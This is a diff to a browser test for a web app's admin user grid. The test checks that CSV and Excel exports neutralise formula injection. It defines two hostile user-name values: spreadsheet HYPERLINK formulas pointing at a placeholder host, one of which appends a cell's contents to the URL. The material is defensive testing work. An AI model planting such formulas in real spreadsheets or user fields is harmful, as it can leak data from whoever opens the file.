@@ -24,6 +24,8 @@ from tests.browser.conftest import create_account, sign_in
 pytestmark = pytest.mark.browser
 
 HOSTILE = '=HYPERLINK("http://exemple.test/vol?d="&A1,"Cliquez ici")'
+# A formula after the other list separator: a French file (";") opened on an English Windows.
+SPLIT = 'Rapport,=HYPERLINK("http://exemple.test/vol","Cliquez ici")'
 TIMEOUT = 20_000
 
 
@@ -39,6 +41,7 @@ def test_the_grid_csv_and_excel_write_a_hostile_name_as_text(
 ) -> None:
     create_account(engine, "admin-csv", "admin", full_name="Administratrice")
     create_account(engine, "piege", "viewer", full_name=HOSTILE)
+    create_account(engine, "piege2", "viewer", full_name=SPLIT)
     sign_in(page, live_server, "admin-csv", next_path="/admin/users")
     grid = page.locator("#admin-users-grid")
     expect(grid.locator(".ag-row").first).to_be_visible(timeout=TIMEOUT)
@@ -48,6 +51,10 @@ def test_the_grid_csv_and_excel_write_a_hostile_name_as_text(
     trap = next(row for row in rows if "piege" in row)
     assert "'" + HOSTILE in trap  # an apostrophe first: a spreadsheet shows it as text
     assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    # Opened where the list separator is "," (English Windows), no piece is a formula either.
+    split = list(csv.reader(io.StringIO(content), delimiter=","))
+    assert not any(cell.startswith(("=", "+", "@")) for row in split for cell in row)
+    assert any("Rapport,'=HYPERLINK" in cell for row in rows for cell in row)
 
     book = openpyxl.load_workbook(io.BytesIO(_download(page, "button.cti-export-xlsx")))
     sheet = book.active
